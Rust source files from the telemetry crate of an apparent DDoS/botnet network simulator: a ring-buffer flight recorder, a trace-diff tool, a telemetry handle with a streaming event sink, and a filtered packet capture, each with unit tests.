        if self.buf.len() < self.capacity {
            self.buf.push(event);
        } else {
            self.buf[self.head] = event;
            self.head = (self.head + 1) % self.capacity;
        }
        seq
    }

    /// Fast-forwards the sequence and total counters to `seq` without
    /// recording anything, so the next [`record`](Self::record) call is
    /// numbered `seq`.
    ///
    /// Checkpoint resume replays the run's prefix with collectors
    /// suppressed, then splices the recorder to the checkpoint's
    /// `events_recorded` count; the continuation thereby numbers events
    /// exactly as the uninterrupted run did, making the resumed trace's
    /// suffix byte-comparable to the original.
    ///
    /// # Panics
    ///
    /// Panics if events were already recorded — splicing is only valid on
    /// a recorder that has recorded nothing.
    pub fn splice(&mut self, seq: u64) {
        assert!(
            self.buf.is_empty() && self.total == 0,
            "FlightRecorder::splice on a non-empty recorder"
        );
        self.next_seq = seq;
        self.total = seq;
    }

    /// Retained events in chronological (sequence) order.
    pub fn events(&self) -> Vec<&Event> {
        let (older, newer) = self.buf.split_at(self.head);
        newer.iter().chain(older.iter()).collect()
    }

    /// Serializes the retained window; byte-stable for identical event
    /// streams (djson preserves insertion order, no wall-clock fields).
    pub fn to_json(&self) -> Json {
        Json::obj([
            ("schema", Json::Str(RECORDER_SCHEMA.into())),
            ("capacity", Json::U64(self.capacity as u64)),
            ("total_recorded", Json::U64(self.total)),
            (
                "events",
                Json::Arr(self.events().into_iter().map(ToJson::to_json).collect()),
            ),
        ])
    }

    /// Parses the `events` array out of a serialized recorder trace.
    ///
    /// # Errors
    ///
    /// Returns [`JsonError`] when the document is not a recorder trace.
    pub fn events_from_json(json: &Json) -> Result<Vec<Event>, JsonError> {
        let events = json
            .get("events")
            .ok_or_else(|| JsonError::conversion("recorder trace missing 'events'"))?;
        Vec::<Event>::from_json(events)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Category;

    fn ev(t: u64, detail: &str) -> Event {
        Event {
            time_nanos: t,
            seq: 0,
            node: Some(1),
            category: Category::LinkTx,
            detail: detail.into(),
        }
    }

    #[test]
    fn wraps_keeping_most_recent() {
        let mut r = FlightRecorder::new(3);
        for i in 0..5u64 {
            r.record(ev(i, &format!("e{i}")));
        }
        assert_eq!(r.total_recorded(), 5);
        assert_eq!(r.len(), 3);
        let kept: Vec<u64> = r.events().iter().map(|e| e.seq).collect();
        assert_eq!(kept, vec![2, 3, 4], "oldest two evicted, order kept");
    }

    #[test]
    fn serialization_round_trips_events() {
        let mut r = FlightRecorder::new(8);
        r.record(ev(10, "a"));
        r.record(ev(20, "b"));
        let json = r.to_json();
        let back = FlightRecorder::events_from_json(&json).expect("parse");
        assert_eq!(back.len(), 2);
        assert_eq!(back[0].detail, "a");
        assert_eq!(back[1].seq, 1);
        // Byte stability: same content serializes identically.
        assert_eq!(json.to_string_compact(), r.to_json().to_string_compact());
    }

    #[test]
    fn zero_capacity_clamps_to_one() {
        let mut r = FlightRecorder::new(0);
        r.record(ev(1, "x"));
        r.record(ev(2, "y"));
        assert_eq!(r.len(), 1);
        assert_eq!(r.events()[0].detail, "y");
    }
}
