//! Trace diff: find the *first* diverging entry between two runs.
//!
//! Byte-identity tests can only say "the runs differ"; this module says
//! *where*. It understands any of the telemetry documents (recorder
//! traces with an `events` array, captures with `records`, metrics with
//! `series`) and falls back to comparing the raw documents, so
//! `ddosim trace diff a.json b.json` works on whichever artifact the
//! run produced.

use djson::Json;

/// The first point at which two traces disagree.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Divergence {
    /// Index into the entry arrays (0-based).
    pub index: usize,
    /// Entry on the A side, compact-serialized; `None` when A ended early.
    pub a: Option<String>,
    /// Entry on the B side, compact-serialized; `None` when B ended early.
    pub b: Option<String>,
}

impl Divergence {
    /// A human-readable multi-line report.
    pub fn render(&self) -> String {
        let show = |side: &Option<String>| match side {
            Some(s) => s.clone(),
            None => "<trace ended>".to_string(),
        };
        format!(
            "first divergence at entry {}\n  a: {}\n  b: {}",
            self.index,
            show(&self.a),
            show(&self.b)
        )
    }
}

/// Pulls the comparable entry list out of a telemetry document: the
/// `events`, `records`, or `series` array when present, otherwise the
/// document itself as a single entry.
fn entries(doc: &Json) -> Vec<&Json> {
    for key in ["events", "records", "series"] {
        if let Some(arr) = doc.get(key).and_then(Json::as_array) {
            return arr.iter().collect();
        }
    }
    if let Some(arr) = doc.as_array() {
        return arr.iter().collect();
    }
    vec![doc]
}

/// Compares two telemetry documents entry by entry; `None` means they
/// are identical (same entries in the same order, and — when both carry
/// one — the same schema).
pub fn first_divergence(a: &Json, b: &Json) -> Option<Divergence> {
    let (sa, sb) = (a.get("schema"), b.get("schema"));
    if let (Some(sa), Some(sb)) = (sa, sb) {
        if sa != sb {
            return Some(Divergence {
                index: 0,
                a: Some(sa.to_string_compact()),
                b: Some(sb.to_string_compact()),
            });
        }
    }
    let ea = entries(a);
    let eb = entries(b);
    for i in 0..ea.len().max(eb.len()) {
        match (ea.get(i), eb.get(i)) {
            (Some(x), Some(y)) if x == y => continue,
            (x, y) => {
                return Some(Divergence {
                    index: i,
                    a: x.map(|j| j.to_string_compact()),
                    b: y.map(|j| j.to_string_compact()),
                })
            }
        }
    }
    None
}

/// Parses two serialized traces and diffs them.
///
/// # Errors
///
/// Returns a message naming which side failed to parse.
pub fn diff_strs(a: &str, b: &str) -> Result<Option<Divergence>, String> {
    let ja = Json::parse(a).map_err(|e| format!("trace a: {e}"))?;
    let jb = Json::parse(b).map_err(|e| format!("trace b: {e}"))?;
    Ok(first_divergence(&ja, &jb))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identical_traces_have_no_divergence() {
        let doc = r#"{"schema":"s","events":[{"t":1},{"t":2}]}"#;
        assert_eq!(diff_strs(doc, doc).expect("parse"), None);
    }

    #[test]
    fn pinpoints_first_differing_entry() {
        let a = r#"{"schema":"s","events":[{"t":1},{"t":2},{"t":3}]}"#;
        let b = r#"{"schema":"s","events":[{"t":1},{"t":9},{"t":3}]}"#;
        let d = diff_strs(a, b).expect("parse").expect("diverges");
        assert_eq!(d.index, 1);
        assert_eq!(d.a.as_deref(), Some(r#"{"t":2}"#));
        assert_eq!(d.b.as_deref(), Some(r#"{"t":9}"#));
        assert!(d.render().contains("entry 1"));
    }

    #[test]
    fn truncation_diverges_at_the_missing_entry() {
        let a = r#"{"events":[{"t":1},{"t":2}]}"#;
        let b = r#"{"events":[{"t":1}]}"#;
        let d = diff_strs(a, b).expect("parse").expect("diverges");
        assert_eq!(d.index, 1);
        assert_eq!(d.b, None);
        assert!(d.render().contains("<trace ended>"));
    }

    #[test]
    fn schema_mismatch_is_reported_first() {
        let a = r#"{"schema":"x","events":[]}"#;
        let b = r#"{"schema":"y","events":[]}"#;
        let d = diff_strs(a, b).expect("parse").expect("diverges");
        assert_eq!(d.a.as_deref(), Some(r#""x""#));
    }

    #[test]
    fn bare_documents_compare_wholesale() {
        assert!(diff_strs("1", "1").expect("parse").is_none());
        assert!(diff_strs("1", "2").expect("parse").is_some());
        assert_eq!(
            diff_strs("[1,2]", "[1,3]").expect("parse").expect("diverges").index,
            1
        );
    }

    #[test]
    fn parse_errors_name_the_side() {
        assert!(diff_strs("{", "1").unwrap_err().starts_with("trace a"));
        assert!(diff_strs("1", "{").unwrap_err().starts_with("trace b"));
    }
}
