//! Deterministic observability for the DDoSim stack.
//!
//! Four pieces, all serialized through `djson` so same-seed runs emit
//! byte-identical artifacts:
//!
//! * [`FlightRecorder`] — a ring buffer of structured [`Event`]s emitted
//!   by every layer (netsim link/Wi-Fi/tcp internals, firmware shell and
//!   container lifecycle, malware C&C and infection transitions, core
//!   experiment phases).
//! * [`PacketCapture`] — a pcap-like record of packet sends, deliveries
//!   and drops, filtered by a BPF-ish [`CaptureFilter`].
//! * [`TimeSeries`] / [`SeriesSet`] — fixed-interval metric sampling
//!   (queue depth, tx/rx rates, bot population) that figure pipelines
//!   can bin directly.
//! * [`diff`] — finds the first diverging entry between two serialized
//!   traces, turning "the runs differ" into "they differ *here*".
//!
//! Everything hangs off a cheaply-cloneable [`Telemetry`] handle. The
//! disabled handle (the default) is a `None` plus false flags, so the
//! hot path pays one predictable branch per site and never constructs
//! an event: detail strings are built inside closures that only run
//! when recording is on.
//!
//! The handle uses `Rc`, not `Arc`: a simulator world is single-threaded
//! by design (parallel sweeps build one world per thread), and `Rc`
//! keeps the enabled path cheap.

pub mod capture;
pub mod diff;
pub mod event;
pub mod recorder;
pub mod series;

pub use capture::{CaptureFilter, CaptureRecord, PacketCapture, CAPTURE_SCHEMA};
pub use diff::{diff_strs, first_divergence, Divergence};
pub use event::{Category, Event};
pub use recorder::{FlightRecorder, RECORDER_SCHEMA};
pub use series::{SeriesSet, TimeSeries, METRICS_SCHEMA};

use djson::Json;
use std::cell::RefCell;
use std::rc::Rc;
use std::time::Duration;

/// What to record. The default records nothing and keeps the
/// simulation on the uninstrumented hot path.
#[derive(Debug, Clone, PartialEq)]
pub struct TelemetryConfig {
    /// Run the flight recorder.
    pub record: bool,
    /// Ring-buffer capacity of the flight recorder.
    pub recorder_capacity: usize,
    /// Run the packet capture.
    pub capture: bool,
    /// BPF-ish predicate selecting which packet events are kept.
    pub capture_filter: CaptureFilter,
    /// Maximum stored capture records (further matches are counted).
    pub capture_capacity: usize,
    /// Sample time-series metrics every this often (simulated time);
    /// `None` disables sampling.
    pub metrics_interval: Option<Duration>,
}

impl Default for TelemetryConfig {
    fn default() -> Self {
        TelemetryConfig {
            record: false,
            recorder_capacity: 65_536,
            capture: false,
            capture_filter: CaptureFilter::default(),
            capture_capacity: 262_144,
            metrics_interval: None,
        }
    }
}

impl TelemetryConfig {
    /// Whether any collector is switched on.
    pub fn any_enabled(&self) -> bool {
        self.record || self.capture || self.metrics_interval.is_some()
    }

    /// Validates the knobs that have invalid settings.
    ///
    /// # Errors
    ///
    /// Returns a message describing the bad field.
    pub fn validate(&self) -> Result<(), String> {
        if let Some(iv) = self.metrics_interval {
            if iv.is_zero() {
                return Err("metrics_interval must be positive".into());
            }
        }
        Ok(())
    }
}

/// A live event tap: invoked with every stamped [`Event`] the flight
/// recorder accepts, the instant it is recorded. Serve mode attaches one
/// to stream events over a socket while the run is still going. The sink
/// only observes — the recorder stores exactly what it would store
/// without one — so attaching a sink can never perturb a run.
type EventSink = Rc<RefCell<dyn FnMut(&Event)>>;

struct Inner {
    recorder: Option<FlightRecorder>,
    capture: Option<PacketCapture>,
    metrics: Option<SeriesSet>,
    /// While set, collectors silently discard everything offered to them.
    ///
    /// Checkpoint resume replays the prefix of a run to rebuild simulator
    /// state; the replayed events must not re-enter the collectors (the
    /// resumed trace starts at the checkpoint's spliced sequence number).
    /// The flag lives *here*, behind the `RefCell`, rather than in the
    /// hot-path `records`/`captures` booleans on [`Telemetry`]: those
    /// booleans are observable by the simulator (`records_events()` gates
    /// sweep-report bookkeeping), so flipping them during replay would make
    /// the replayed simulation diverge from the original. Suppression must
    /// be invisible to everything except the collectors.
    suppressed: bool,
    /// Streaming event sink, if attached (serve mode). Shared by plain
    /// handle clones (they share this whole `Inner`), but deliberately
    /// *not* inherited by [`Telemetry::deep_fork`]: the sink belongs to
    /// one job's live stream, and a forked world's events must not leak
    /// into the parent job's frames.
    sink: Option<EventSink>,
}

impl Clone for Inner {
    fn clone(&self) -> Self {
        Inner {
            recorder: self.recorder.clone(),
            capture: self.capture.clone(),
            metrics: self.metrics.clone(),
            suppressed: self.suppressed,
            sink: None,
        }
    }
}

impl std::fmt::Debug for Inner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Inner")
            .field("recorder", &self.recorder)
            .field("capture", &self.capture)
            .field("metrics", &self.metrics)
            .field("suppressed", &self.suppressed)
            .field("sink", &self.sink.is_some())
            .finish()
    }
}

/// Cloneable handle to a run's collectors. The default handle is
/// disabled: every emit call is a single branch that takes nothing.
#[derive(Debug, Clone, Default)]
pub struct Telemetry {
    inner: Option<Rc<RefCell<Inner>>>,
    // Enablement flags are copied out of `inner` so hot-path checks are
    // plain branches, not RefCell borrows.
    records: bool,
    captures: bool,
}

impl Telemetry {
    /// The no-op handle.
    pub fn disabled() -> Self {
        Telemetry::default()
    }

    /// Builds collectors per `config`; returns the disabled handle when
    /// nothing is switched on.
    pub fn from_config(config: &TelemetryConfig) -> Self {
        if !config.any_enabled() {
            return Telemetry::disabled();
        }
        let inner = Inner {
            recorder: config.record.then(|| FlightRecorder::new(config.recorder_capacity)),
            capture: config.capture.then(|| {
                PacketCapture::new(config.capture_filter.clone(), config.capture_capacity)
            }),
            metrics: config
                .metrics_interval
                .map(|iv| SeriesSet::new(iv.as_nanos().max(1) as u64)),
            suppressed: false,
            sink: None,
        };
        Telemetry {
            records: inner.recorder.is_some(),
            captures: inner.capture.is_some(),
            inner: Some(Rc::new(RefCell::new(inner))),
        }
    }

    /// Whether any collector is live.
    pub fn is_enabled(&self) -> bool {
        self.inner.is_some()
    }

    /// Whether the flight recorder is live (cheap; safe on hot paths).
    #[inline]
    pub fn records_events(&self) -> bool {
        self.records
    }

    /// Whether the packet capture is live.
    #[inline]
    pub fn captures_packets(&self) -> bool {
        self.captures
    }

    /// Records a flight-recorder event. `detail` only runs when the
    /// recorder is live, so disabled runs never format anything.
    #[inline]
    pub fn record_event(
        &self,
        time_nanos: u64,
        node: Option<u32>,
        category: Category,
        detail: impl FnOnce() -> String,
    ) {
        if !self.records {
            return;
        }
        if let Some(inner) = &self.inner {
            let mut inner = inner.borrow_mut();
            // Reborrow so the recorder and the sink can be used together
            // (disjoint field borrows through the `RefMut`).
            let inner = &mut *inner;
            if inner.suppressed {
                return;
            }
            if let Some(rec) = inner.recorder.as_mut() {
                let mut event =
                    Event { time_nanos, seq: 0, node, category, detail: detail() };
                match &inner.sink {
                    // The sink sees the exact entry the ring stored —
                    // same stamped sequence number, same payload — so a
                    // streamed trace can be reassembled byte for byte.
                    Some(sink) => {
                        event.seq = rec.record(event.clone());
                        (sink.borrow_mut())(&event);
                    }
                    None => {
                        rec.record(event);
                    }
                }
            }
        }
    }

    /// Offers a packet event to the capture. `make` only runs when the
    /// capture is live.
    #[inline]
    pub fn capture_packet(&self, make: impl FnOnce() -> CaptureRecord) {
        if !self.captures {
            return;
        }
        if let Some(inner) = &self.inner {
            let mut inner = inner.borrow_mut();
            if inner.suppressed {
                return;
            }
            if let Some(cap) = inner.capture.as_mut() {
                cap.offer(make());
            }
        }
    }

    /// Runs `f` against the metric series when sampling is on.
    pub fn with_metrics(&self, f: impl FnOnce(&mut SeriesSet)) {
        if let Some(inner) = &self.inner {
            let mut inner = inner.borrow_mut();
            if inner.suppressed {
                return;
            }
            if let Some(set) = inner.metrics.as_mut() {
                f(set);
            }
        }
    }

    /// Turns collector suppression on or off (checkpoint-resume replay).
    ///
    /// While suppressed, events, packets, and metric samples offered to
    /// the handle are silently discarded; the enablement flags visible to
    /// the simulator (`records_events()` / `captures_packets()`) are
    /// unchanged, so the simulation itself behaves exactly as if the
    /// collectors were live. No-op on the disabled handle.
    pub fn set_suppressed(&self, on: bool) {
        if let Some(inner) = &self.inner {
            inner.borrow_mut().suppressed = on;
        }
    }

    /// Splices the flight recorder's sequence counters to `seq`, so the
    /// next recorded event is numbered `seq` (checkpoint resume: the
    /// replayed prefix was suppressed, and the continuation must number
    /// events exactly as the uninterrupted run did).
    ///
    /// # Panics
    ///
    /// Panics if the recorder already holds events (splicing is only
    /// meaningful right after a suppressed replay).
    pub fn splice_recorder(&self, seq: u64) {
        if let Some(inner) = &self.inner {
            if let Some(rec) = inner.borrow_mut().recorder.as_mut() {
                rec.splice(seq);
            }
        }
    }

    /// Serialized flight-recorder trace, if recording.
    pub fn recorder_json(&self) -> Option<Json> {
        self.inner
            .as_ref()
            .and_then(|i| i.borrow().recorder.as_ref().map(FlightRecorder::to_json))
    }

    /// Serialized packet capture, if capturing.
    pub fn capture_json(&self) -> Option<Json> {
        self.inner
            .as_ref()
            .and_then(|i| i.borrow().capture.as_ref().map(PacketCapture::to_json))
    }

    /// Serialized metrics document, if sampling.
    pub fn metrics_json(&self) -> Option<Json> {
        self.inner
            .as_ref()
            .and_then(|i| i.borrow().metrics.as_ref().map(SeriesSet::to_json))
    }

    /// Deep-clones the collectors into an independent handle.
    ///
    /// A plain `clone()` shares the collectors (that is the point of the
    /// handle); a *fork* needs its own copies so the forked world's events
    /// land in a separate trace while the parent's handle keeps recording
    /// the parent. The forked recorder keeps the parent's sequence
    /// counter, so a fork's first event is numbered exactly where the
    /// parent left off — the recorder-splice analogue for forks.
    pub fn deep_fork(&self) -> Telemetry {
        match &self.inner {
            None => Telemetry::disabled(),
            Some(inner) => Telemetry {
                records: self.records,
                captures: self.captures,
                inner: Some(Rc::new(RefCell::new(inner.borrow().clone()))),
            },
        }
    }

    /// Attaches a streaming event sink: `sink` runs with every stamped
    /// event the flight recorder accepts, the moment it is recorded, on
    /// the thread doing the recording. Replaces any previously attached
    /// sink. No-op when the handle is disabled (and the sink never fires
    /// unless the recorder is live — suppressed events skip it too).
    ///
    /// The sink must not call back into this handle (the collectors are
    /// borrowed while it runs). Plain clones share the sink; `deep_fork`
    /// drops it.
    pub fn set_event_sink(&self, sink: impl FnMut(&Event) + 'static) {
        if let Some(inner) = &self.inner {
            inner.borrow_mut().sink = Some(Rc::new(RefCell::new(sink)));
        }
    }

    /// Detaches the streaming event sink, if one is attached.
    pub fn clear_event_sink(&self) {
        if let Some(inner) = &self.inner {
            inner.borrow_mut().sink = None;
        }
    }

    /// The flight recorder's ring capacity, if recording.
    pub fn recorder_capacity(&self) -> Option<usize> {
        self.inner
            .as_ref()
            .and_then(|i| i.borrow().recorder.as_ref().map(FlightRecorder::capacity))
    }

    /// Events recorded over the run (0 when the recorder is off).
    pub fn events_recorded(&self) -> u64 {
        self.inner
            .as_ref()
            .and_then(|i| i.borrow().recorder.as_ref().map(FlightRecorder::total_recorded))
            .unwrap_or(0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_handle_takes_nothing_and_never_formats() {
        let t = Telemetry::disabled();
        assert!(!t.is_enabled());
        t.record_event(0, None, Category::Phase, || {
            panic!("detail closure must not run when disabled")
        });
        t.capture_packet(|| panic!("capture closure must not run when disabled"));
        assert!(t.recorder_json().is_none());
        assert!(t.capture_json().is_none());
        assert!(t.metrics_json().is_none());
        assert_eq!(t.events_recorded(), 0);
    }

    #[test]
    fn from_config_respects_switches() {
        let off = Telemetry::from_config(&TelemetryConfig::default());
        assert!(!off.is_enabled());

        let cfg = TelemetryConfig { record: true, ..TelemetryConfig::default() };
        let t = Telemetry::from_config(&cfg);
        assert!(t.records_events() && !t.captures_packets());
        t.record_event(5, Some(1), Category::Phase, || "init".into());
        assert_eq!(t.events_recorded(), 1);
        assert!(t.capture_json().is_none());

        // Clones share the same collectors.
        let t2 = t.clone();
        t2.record_event(6, Some(1), Category::Phase, || "attack".into());
        assert_eq!(t.events_recorded(), 2);
    }

    #[test]
    fn metrics_sampling_round_trip() {
        let cfg = TelemetryConfig {
            metrics_interval: Some(Duration::from_secs(1)),
            ..TelemetryConfig::default()
        };
        let t = Telemetry::from_config(&cfg);
        t.with_metrics(|m| m.series_mut("queue_depth").push(3.0));
        let json = t.metrics_json().expect("metrics on");
        assert!(json.to_string_compact().contains("queue_depth"));
    }

    #[test]
    fn event_sink_streams_exactly_what_the_ring_stores() {
        let cfg = TelemetryConfig { record: true, ..TelemetryConfig::default() };
        let t = Telemetry::from_config(&cfg);
        let seen: Rc<RefCell<Vec<Event>>> = Rc::new(RefCell::new(Vec::new()));
        let tap = Rc::clone(&seen);
        t.set_event_sink(move |e| tap.borrow_mut().push(e.clone()));
        t.record_event(5, Some(1), Category::Phase, || "init".into());
        t.record_event(9, None, Category::Infection, || "dev1 infected".into());
        let streamed = seen.borrow().clone();
        assert_eq!(streamed.len(), 2);
        assert_eq!(streamed[0].seq, 0, "sink sees the stamped sequence number");
        assert_eq!(streamed[1].seq, 1);
        // The streamed entries are byte-identical to the stored ring.
        let stored = t.recorder_json().expect("recording");
        let ring = FlightRecorder::events_from_json(&stored).expect("parse");
        assert_eq!(streamed, ring);

        // Suppressed events are invisible to the sink, like the ring.
        t.set_suppressed(true);
        t.record_event(10, None, Category::Phase, || "suppressed".into());
        t.set_suppressed(false);
        assert_eq!(seen.borrow().len(), 2);

        // Detaching stops the stream but not the ring.
        t.clear_event_sink();
        t.record_event(11, None, Category::Phase, || "quiet".into());
        assert_eq!(seen.borrow().len(), 2);
        assert_eq!(t.events_recorded(), 3);
        assert_eq!(t.recorder_capacity(), Some(65_536));
    }

    #[test]
    fn deep_fork_drops_the_sink_but_clones_share_it() {
        let cfg = TelemetryConfig { record: true, ..TelemetryConfig::default() };
        let t = Telemetry::from_config(&cfg);
        let count = Rc::new(RefCell::new(0u32));
        let tap = Rc::clone(&count);
        t.set_event_sink(move |_| *tap.borrow_mut() += 1);

        // A plain clone shares the collectors, sink included.
        t.clone().record_event(1, None, Category::Phase, || "via clone".into());
        assert_eq!(*count.borrow(), 1);

        // A fork gets its own collectors and no sink.
        let fork = t.deep_fork();
        fork.record_event(2, None, Category::Phase, || "via fork".into());
        assert_eq!(*count.borrow(), 1, "forked events must not reach the sink");
        assert_eq!(fork.events_recorded(), 2, "fork keeps the parent's counter");

        // A disabled handle ignores sink attachment entirely.
        let off = Telemetry::disabled();
        off.set_event_sink(|_| panic!("must never fire"));
        off.record_event(3, None, Category::Phase, || panic!("disabled"));
    }

    #[test]
    fn config_validation() {
        let bad = TelemetryConfig {
            metrics_interval: Some(Duration::ZERO),
            ..TelemetryConfig::default()
        };
        assert!(bad.validate().is_err());
        assert!(TelemetryConfig::default().validate().is_ok());
    }
}
