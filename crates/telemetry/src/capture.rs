//! Packet capture: a pcap-like, djson-serialized record of packet
//! events, with BPF-ish filter predicates.
//!
//! The capture does not tap the wire itself — netsim already has a
//! trace hook (`stats.rs`) that sees every send/deliver/drop/forward.
//! The core layer converts those trace records into [`CaptureRecord`]s
//! and offers them here; the [`CaptureFilter`] decides which are kept.

use djson::{Json, JsonError, ToJson};
use std::net::{IpAddr, SocketAddr};

/// Schema tag written into every serialized capture.
pub const CAPTURE_SCHEMA: &str = "ddosim.telemetry.capture/1";

/// One captured packet event (a Wireshark-row equivalent).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CaptureRecord {
    /// Simulated time in nanoseconds.
    pub time_nanos: u64,
    /// What happened: `sent`, `delivered`, `forwarded`, or
    /// `dropped:<reason>`.
    pub kind: String,
    /// Node index at which the event occurred.
    pub node: u32,
    /// Simulator-global packet id (follows a packet across hops).
    pub packet_id: u64,
    /// Source socket address.
    pub src: SocketAddr,
    /// Destination socket address.
    pub dst: SocketAddr,
    /// Transport protocol, lowercase (`udp` / `tcp`).
    pub proto: String,
    /// Total on-wire bytes.
    pub wire_bytes: u32,
}

impl ToJson for CaptureRecord {
    fn to_json(&self) -> Json {
        Json::obj([
            ("t", Json::U64(self.time_nanos)),
            ("kind", Json::Str(self.kind.clone())),
            ("node", Json::U64(u64::from(self.node))),
            ("packet_id", Json::U64(self.packet_id)),
            ("src", Json::Str(self.src.to_string())),
            ("dst", Json::Str(self.dst.to_string())),
            ("proto", Json::Str(self.proto.clone())),
            ("wire_bytes", Json::U64(u64::from(self.wire_bytes))),
        ])
    }
}

/// A BPF-flavoured packet predicate: every present field must match
/// (conjunction). Addresses match either endpoint's IP as directed —
/// `src`/`dst` match that specific direction, `host` matches either.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CaptureFilter {
    /// Transport protocol (`udp` / `tcp`), lowercase.
    pub proto: Option<String>,
    /// Matches if either endpoint uses this port.
    pub port: Option<u16>,
    /// Source IP must equal this.
    pub src: Option<IpAddr>,
    /// Destination IP must equal this.
    pub dst: Option<IpAddr>,
    /// Either endpoint IP must equal this.
    pub host: Option<IpAddr>,
}

impl CaptureFilter {
    /// Parses a BPF-ish expression: whitespace-separated clauses from
    /// `udp`, `tcp`, `port N`, `src IP`, `dst IP`, `host IP`.
    /// An empty string is the match-everything filter.
    ///
    /// ```
    /// use telemetry::CaptureFilter;
    /// let f = CaptureFilter::parse("udp port 80 dst 10.0.0.9").unwrap();
    /// assert_eq!(f.proto.as_deref(), Some("udp"));
    /// assert_eq!(f.port, Some(80));
    /// ```
    ///
    /// # Errors
    ///
    /// Returns a message naming the offending clause.
    pub fn parse(expr: &str) -> Result<CaptureFilter, String> {
        let mut filter = CaptureFilter::default();
        let mut words = expr.split_whitespace();
        while let Some(word) = words.next() {
            match word {
                "udp" | "tcp" => filter.proto = Some(word.to_string()),
                "port" => {
                    let v = words.next().ok_or("'port' needs a number")?;
                    filter.port =
                        Some(v.parse().map_err(|_| format!("bad port '{v}'"))?);
                }
                "src" | "dst" | "host" => {
                    let v = words.next().ok_or_else(|| format!("'{word}' needs an IP"))?;
                    let ip: IpAddr =
                        v.parse().map_err(|_| format!("bad IP '{v}' after '{word}'"))?;
                    match word {
                        "src" => filter.src = Some(ip),
                        "dst" => filter.dst = Some(ip),
                        _ => filter.host = Some(ip),
                    }
                }
                other => return Err(format!("unknown filter clause '{other}'")),
            }
        }
        Ok(filter)
    }

    /// Whether `rec` satisfies every clause.
    pub fn matches(&self, rec: &CaptureRecord) -> bool {
        if let Some(proto) = &self.proto {
            if rec.proto != *proto {
                return false;
            }
        }
        if let Some(port) = self.port {
            if rec.src.port() != port && rec.dst.port() != port {
                return false;
            }
        }
        if let Some(src) = self.src {
            if rec.src.ip() != src {
                return false;
            }
        }
        if let Some(dst) = self.dst {
            if rec.dst.ip() != dst {
                return false;
            }
        }
        if let Some(host) = self.host {
            if rec.src.ip() != host && rec.dst.ip() != host {
                return false;
            }
        }
        true
    }
}

/// A bounded capture sink: records matching the filter are kept up to
/// `capacity`; later matches are counted but not stored (like pcap's
/// dropped-by-kernel counter).
#[derive(Debug, Clone)]
pub struct PacketCapture {
    filter: CaptureFilter,
    capacity: usize,
    records: Vec<CaptureRecord>,
    /// Matching records seen, including those past capacity.
    matched: u64,
    /// Records offered, matching or not.
    offered: u64,
}

impl PacketCapture {
    /// Creates a capture keeping at most `capacity` matching records.
    pub fn new(filter: CaptureFilter, capacity: usize) -> Self {
        PacketCapture {
            filter,
            capacity: capacity.max(1),
            records: Vec::new(),
            matched: 0,
            offered: 0,
        }
    }

    /// Offers one packet event; keeps it if the filter matches and the
    /// buffer has room.
    pub fn offer(&mut self, rec: CaptureRecord) {
        self.offered += 1;
        if !self.filter.matches(&rec) {
            return;
        }
        self.matched += 1;
        if self.records.len() < self.capacity {
            self.records.push(rec);
        }
    }

    /// Stored records, in capture order.
    pub fn records(&self) -> &[CaptureRecord] {
        &self.records
    }

    /// Matching records seen (stored or not).
    pub fn matched(&self) -> u64 {
        self.matched
    }

    /// Serializes the capture; byte-stable for identical packet streams.
    pub fn to_json(&self) -> Json {
        Json::obj([
            ("schema", Json::Str(CAPTURE_SCHEMA.into())),
            ("offered", Json::U64(self.offered)),
            ("matched", Json::U64(self.matched)),
            ("stored", Json::U64(self.records.len() as u64)),
            (
                "records",
                Json::Arr(self.records.iter().map(ToJson::to_json).collect()),
            ),
        ])
    }

    /// Extracts the `records` array (as raw Json values) from a
    /// serialized capture, for diffing.
    ///
    /// # Errors
    ///
    /// Returns [`JsonError`] when the document is not a capture.
    pub fn records_from_json(json: &Json) -> Result<Vec<Json>, JsonError> {
        json.get("records")
            .and_then(Json::as_array)
            .map(<[Json]>::to_vec)
            .ok_or_else(|| JsonError::conversion("capture missing 'records'"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rec(src: &str, dst: &str, proto: &str) -> CaptureRecord {
        CaptureRecord {
            time_nanos: 1,
            kind: "sent".into(),
            node: 0,
            packet_id: 1,
            src: src.parse().expect("src"),
            dst: dst.parse().expect("dst"),
            proto: proto.into(),
            wire_bytes: 100,
        }
    }

    #[test]
    fn parse_and_match() {
        let f = CaptureFilter::parse("udp port 80 dst 10.0.0.9").expect("parse");
        assert!(f.matches(&rec("10.0.0.1:5000", "10.0.0.9:80", "udp")));
        assert!(!f.matches(&rec("10.0.0.1:5000", "10.0.0.9:80", "tcp")), "proto");
        assert!(!f.matches(&rec("10.0.0.1:5000", "10.0.0.8:80", "udp")), "dst");
        assert!(!f.matches(&rec("10.0.0.1:5000", "10.0.0.9:81", "udp")), "port");
    }

    #[test]
    fn host_matches_either_direction() {
        let f = CaptureFilter::parse("host 10.0.0.9").expect("parse");
        assert!(f.matches(&rec("10.0.0.9:1", "10.0.0.2:2", "udp")));
        assert!(f.matches(&rec("10.0.0.2:2", "10.0.0.9:1", "tcp")));
        assert!(!f.matches(&rec("10.0.0.2:2", "10.0.0.3:1", "tcp")));
    }

    #[test]
    fn empty_filter_matches_all() {
        let f = CaptureFilter::parse("").expect("parse");
        assert_eq!(f, CaptureFilter::default());
        assert!(f.matches(&rec("1.2.3.4:1", "5.6.7.8:2", "tcp")));
    }

    #[test]
    fn parse_rejects_garbage() {
        assert!(CaptureFilter::parse("icmp").is_err());
        assert!(CaptureFilter::parse("port eighty").is_err());
        assert!(CaptureFilter::parse("src not-an-ip").is_err());
        assert!(CaptureFilter::parse("port").is_err());
    }

    #[test]
    fn capture_caps_storage_but_counts_matches() {
        let mut cap = PacketCapture::new(CaptureFilter::default(), 2);
        for i in 0..5 {
            let mut r = rec("10.0.0.1:1", "10.0.0.2:2", "udp");
            r.packet_id = i;
            cap.offer(r);
        }
        assert_eq!(cap.records().len(), 2);
        assert_eq!(cap.matched(), 5);
        let json = cap.to_json();
        assert_eq!(json.get("stored").and_then(Json::as_u64), Some(2));
        assert_eq!(PacketCapture::records_from_json(&json).expect("records").len(), 2);
    }
}
