//! # ddosim-core — the DDoSim framework
//!
